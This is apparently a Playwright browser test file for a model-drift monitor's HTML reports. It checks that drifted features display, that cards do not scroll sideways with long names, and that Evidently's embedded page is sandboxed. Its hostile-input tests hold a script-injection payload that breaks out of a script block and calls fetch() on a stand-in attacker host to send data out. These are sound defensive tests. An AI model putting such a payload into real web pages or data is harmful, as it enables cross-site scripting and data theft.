"""Reports in a real browser: Debian's Chromium driven by Playwright against the real monitor.

Churn traffic (unchanged, then drifted) is ingested through `POST /v1/events` into a fresh SQLite
store; the monitor evaluates its windows; Chromium opens /reports/, follows the model's link and
must show the drifted features the JSON API names. The screenshot is kept as a test artifact
(test-artifacts/report.png) and, with DRIFTWATCH_UPDATE_SCREENSHOT=1, copied to docs/img/ for the README.

Layout: at 1400 and 1920 px wide no card may scroll sideways (the column table included), with long
column and category names too; screenshots of those pages are kept in test-artifacts/.

Model traffic is hostile input: a category value that closes Evidently's `<script>` block must not run
in the monitor's origin, neither on the served pages nor in the offline file, and Evidently's page
must still render.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import tempfile
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import pandas as pd
import pytest
import yaml
from fastapi import FastAPI
from playwright.sync_api import Browser, Frame, Page

from monitor.app.api import create_app
from monitor.core.config import load_config
from monitor.drift import build_profile, evaluate, specs_from_config
from monitor.reports import create_router
from monitor.reports.build import EvidentlySection, render_report
from monitor.reports.offline import offline_report
from monitor.reports.view import report_view, with_distributions
from tests.browser import chromium
from tests.monitor.ingest_helpers import serve_in_thread
from tests.reports.memory_source import MemorySource

ROOT = Path(__file__).resolve().parents[2]


def _config(tmp: Path) -> Path:
    data = yaml.safe_load((ROOT / "examples" / "config.yaml").read_text())
    data["server"]["store"]["path"] = str(tmp / "driftwatch.db")
    data["server"]["evaluation_interval"] = "0.2s"
    data["models"] = [m for m in data["models"] if m["name"] == "churn"]
    data["models"][0]["reference"]["path"] = str(ROOT / "examples" / "data" / "churn_reference.csv")
    data["models"][0]["window"] = {"records": 1000, "step": 500, "min_records": 100}
    data["models"][0].pop("retrain", None)
    path = tmp / "config.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def _events(frame: pd.DataFrame, start: int, now: float) -> list[dict]:
    features = [c for c in frame.columns if c != "churn_probability"]
    out = []
    for i in range(0, len(frame), 10):
        rows = frame.iloc[i : i + 10]
        out.append({
            "id": f"evt-{start + i}", "model": "churn", "timestamp": now + (start + i) / 1000, "path": "/predict",
            "request": {"body": json.dumps(rows[features].to_dict("records")), "content_type": "application/json"},
            "response": {"body": json.dumps(rows[["churn_probability"]].to_dict("records")), "content_type": "application/json"},
        })
    return out


@pytest.fixture(scope="module")
def monitor_url() -> Iterator[str]:
    tmp = Path(tempfile.mkdtemp(prefix="driftwatch-reports-"))
    try:
        with serve_in_thread(create_app(load_config(_config(tmp)))) as url:
            yield url
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def _ingest_and_wait(url: str) -> dict:
    data = ROOT / "examples" / "data"
    unchanged = pd.read_csv(data / "churn_reference.csv").sample(n=1000, random_state=5)
    drifted = pd.read_csv(data / "churn_current.csv").iloc[:1000]
    events = _events(pd.concat([unchanged, drifted], ignore_index=True), 0, time.time())
    step = 500 // 10  # events of 10 records per window step: wait for each window, as live traffic would
    with httpx.Client(base_url=url, timeout=60) as c:
        for k in range(0, len(events), step):
            r = c.post("/v1/events", json={"events": events[k : k + step]})
            assert r.status_code in (200, 202), r.text
            window = (k + step) * 10
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                latest = c.get("/reports/churn.json")
                if latest.status_code == 200 and latest.json()["window"]["window_id"] == window:
                    break
                time.sleep(0.2)
            else:
                raise AssertionError(f"window {window} was not evaluated: {latest.status_code} {latest.text[:300]}")
        return latest.json()


@pytest.mark.slow
def test_browse_reports_of_the_real_monitor(monitor_url: str) -> None:
    report = _ingest_and_wait(monitor_url)
    drifted = report["drifted_features"]
    assert {"tenure_months", "monthly_charges", "contract"} <= set(drifted)
    assert [h["window_id"] for h in report["history"]] == [500, 1000, 1500, 2000]
    assert report["history"][0]["drifted"] is False
    assert report["history"][-1]["drifted"] is True
    shot = ROOT / "test-artifacts" / "report.png"
    shot.parent.mkdir(exist_ok=True)
    with chromium() as browser:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(f"{monitor_url}/reports/")
        assert page.locator("tr[data-model=churn] .badge").inner_text().lower() == "drift"
        with page.expect_navigation():
            page.get_by_role("link", name="churn", exact=True).first.click()
        page.wait_for_selector("#drifted-names", timeout=60_000)
        assert page.url.rstrip("/").endswith("/reports/churn")
        shown = page.locator("#drifted-names").inner_text().split(", ")
        assert shown == drifted
        for name in drifted:
            assert page.locator(f'tr.drifted[data-feature="{name}"]').count() == 1
            assert page.locator(f'.card[data-feature="{name}"]').is_visible()
        assert page.locator("svg.history g.panel").count() == len(report["result"]["features"])
        assert page.locator("svg.dist").count() == len(report["result"]["features"])  # our own plots
        page.locator("iframe.evidently").scroll_into_view_if_needed()  # it loads lazily, near the viewport
        evidently = page.frame_locator("iframe.evidently")
        evidently.locator("text=Dataset Drift").first.wait_for(timeout=60_000)  # renders offline
        agreement = page.frame_locator("iframe.agreement")
        assert agreement.locator("table.agreement tr[data-feature]").count() == len(report["result"]["features"])
        page.screenshot(path=str(shot), clip={"x": 0, "y": 0, "width": 1280, "height": 1560}, full_page=True)
    assert shot.stat().st_size > 50_000
    if os.environ.get("DRIFTWATCH_UPDATE_SCREENSHOT") == "1":
        shutil.copyfile(shot, ROOT / "docs" / "img" / "report.png")


def _payload(canary: str) -> str:
    """Closes Evidently's data script, then tries what an attacker would: its origin, the API, the parent."""
    return (
        "</script><script>document.title='XSS-'+self.origin;fetch('" + canary + "');"
        "try{parent.document.title='PWNED'}catch(e){}</script>"
    )


class _PoisonedSource(MemorySource):
    """The churn windows, with the payload as the `contract` of every 7th record of the last window."""

    def __init__(self, payload: str) -> None:
        super().__init__()
        last = self.churn[-1]
        frame = self.frames[last.window_id].copy()
        frame.loc[::7, "contract"] = payload
        self.frames[last.window_id] = frame
        specs, settings = specs_from_config(self.config, "churn")
        self.churn[-1] = replace(last, result=evaluate(build_profile(self.reference, specs, settings), frame).to_dict())


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as b:
        yield b


@pytest.fixture(scope="module")
def hostile() -> Iterator[tuple[str, list[str]]]:
    """Reports over poisoned traffic, beside a same-origin `/canary` standing in for the monitor's API."""
    hits: list[str] = []
    app = FastAPI()
    app.include_router(create_router(_PoisonedSource(_payload("/canary"))))

    @app.get("/canary")
    def canary() -> dict[str, str]:
        hits.append("/canary")
        return {"secret": "models"}

    with serve_in_thread(app) as url:
        yield url, hits


def _evidently_frame(page: Page) -> Frame:
    frame = page.frame_locator("iframe.evidently")
    page.locator("iframe.evidently").scroll_into_view_if_needed()  # the served frame loads lazily
    frame.locator("text=Dataset Drift").first.wait_for(timeout=120_000)  # Evidently rendered, scripts ran
    content = page.locator("iframe.evidently").element_handle().content_frame()  # not the agreement frame beside it
    assert content is not None
    return content


def _assert_inert(frame: Frame) -> None:
    title, origin = frame.evaluate("[document.title, self.origin]")
    assert origin == "null"  # a unique opaque origin: no access to the monitor's APIs or cookies
    assert not title.startswith("XSS")  # the value was defused before it reached Evidently


@pytest.mark.slow
def test_hostile_category_does_not_run_on_the_served_pages(hostile: tuple[str, list[str]], browser: Browser) -> None:
    url, hits = hostile
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(f"{url}/reports/churn/2000")
    assert page.locator("tr.drifted[data-feature=contract]").count() == 1  # the window is the poisoned one
    _assert_inert(_evidently_frame(page))
    page.wait_for_timeout(500)
    assert page.title() == "churn · window #2000 · driftwatch"
    direct = page.goto(f"{url}/reports/churn/2000/evidently")  # opened on its own, not framed
    assert direct is not None
    assert "sandbox allow-scripts" in direct.headers["content-security-policy"]
    page.locator("text=Dataset Drift").first.wait_for(timeout=60_000)
    _assert_inert(page.main_frame)
    assert hits == []


@pytest.mark.slow
def test_hostile_category_does_not_run_in_the_offline_report(tmp_path: Path, browser: Browser) -> None:
    source = _PoisonedSource(_payload("https://attacker.invalid/steal"))
    reference, current = tmp_path / "reference.csv", tmp_path / "current.csv"
    source.reference.to_csv(reference, index=False)
    source.frames[source.churn[-1].window_id].to_csv(current, index=False)
    out = tmp_path / "report.html"
    out.write_text(offline_report(source.config, "churn", reference, current))
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(out.as_uri())
    _assert_inert(_evidently_frame(page))
    assert re.fullmatch(r"churn · window #1 · driftwatch", page.title())


@pytest.mark.slow
def test_a_script_in_evidentlys_page_stays_in_its_sandbox(tmp_path: Path, browser: Browser, hostile: tuple[str, list[str]]) -> None:
    """Defence in depth: were a script to reach Evidently's page anyway, it gets no origin and no network."""
    url, hits = hostile
    source = MemorySource()
    view = report_view(source.churn[-1], source.churn)
    hostile_page = f"<html><body><p>Dataset Drift</p><script>{_payload(url + '/canary').split('<script>', 1)[1]}</body></html>"
    out = tmp_path / "report.html"
    out.write_text(render_report(view, evidently=EvidentlySection(scores={}, inline_html=hostile_page)))
    page = browser.new_page()
    page.goto(out.as_uri())
    frame = _evidently_frame(page)
    page.wait_for_timeout(500)
    assert frame.evaluate("[document.title, self.origin]") == ["XSS-null", "null"]  # it ran, but origin-less
    assert page.title() == "churn · window #2000 · driftwatch"  # could not reach the page around it
    assert hits == []  # and could not send anything


@pytest.fixture(scope="module")
def reports_url() -> Iterator[str]:
    """The report routes over the in-memory churn windows, Evidently included (it runs in the background)."""
    app = FastAPI()
    app.include_router(create_router(MemorySource()))
    with serve_in_thread(app) as url:
        yield url


LONG_NAMES = {
    "tenure_months": "customer_tenure_in_months_since_the_first_signed_contract_of_the_household_account",
    "monthly_charges": "averagemonthlychargesacrossallsubscribedproductsandservicesbeforediscountsandtaxes",
    "contract": "contract_type_as_recorded_by_the_billing_system_at_the_end_of_the_window",
}


def _long_names_page(tmp: Path) -> Path:
    """The churn report with very long column names and a very long category value, as served (framed Evidently)."""
    source = MemorySource()
    reference = source.reference.copy()
    current = source.frames[source.churn[-1].window_id].copy()
    long_value = "month-to-month-with-an-introductory-discount-that-expires-after-the-first-twelve-billing-cycles"
    current.loc[current["contract"] == "month-to-month", "contract"] = long_value
    reference = reference.rename(columns=LONG_NAMES)
    current = current.rename(columns=LONG_NAMES)
    specs, settings = specs_from_config(source.config, "churn")
    specs = [replace(s, name=LONG_NAMES.get(s.name, s.name)) for s in specs]
    result = evaluate(build_profile(reference, specs, settings), current)
    ev = replace(source.churn[-1], result=result.to_dict())
    view = with_distributions(report_view(ev, [ev]), reference, current)
    section = EvidentlySection(scores={}, url="about:blank", agreement_url="about:blank")
    out = tmp / "long-names.html"
    out.write_text(render_report(view, evidently=section))
    return out


def _overflowing(page: Page) -> list[str]:
    """Cards, table wrappers and the page itself whose content is wider than their box."""
    return page.evaluate(
        """() => [...document.querySelectorAll('.card, .tablewrap'), document.documentElement]
            .filter(e => e.scrollWidth > e.clientWidth)
            .map(e => (e.id || e.className || e.tagName) + ' ' + e.scrollWidth + '>' + e.clientWidth)"""
    )


@pytest.mark.slow
@pytest.mark.parametrize("width", [1400, 1920])
def test_no_card_scrolls_sideways_even_with_long_names(tmp_path: Path, browser: Browser, reports_url: str, width: int) -> None:
    shots = ROOT / "test-artifacts"
    shots.mkdir(exist_ok=True)
    page = browser.new_page(viewport={"width": width, "height": 1000})
    for name, url in (("churn", f"{reports_url}/reports/churn/2000"), ("long-names", _long_names_page(tmp_path).as_uri())):
        page.goto(url, wait_until="domcontentloaded")
        page.wait_for_selector("table.columns")
        table = page.locator("table.columns")
        assert table.locator("tr[data-feature]").count() == 8  # every column is in the table
        assert _overflowing(page) == [], name
        card = page.locator("#drifted")
        box, table_box = card.bounding_box(), table.bounding_box()
        assert box is not None
        assert table_box is not None
        assert table_box["x"] + table_box["width"] <= box["x"] + box["width"]  # the table ends inside its card
        page.screenshot(path=str(shots / f"report-{name}-{width}.png"), full_page=True)
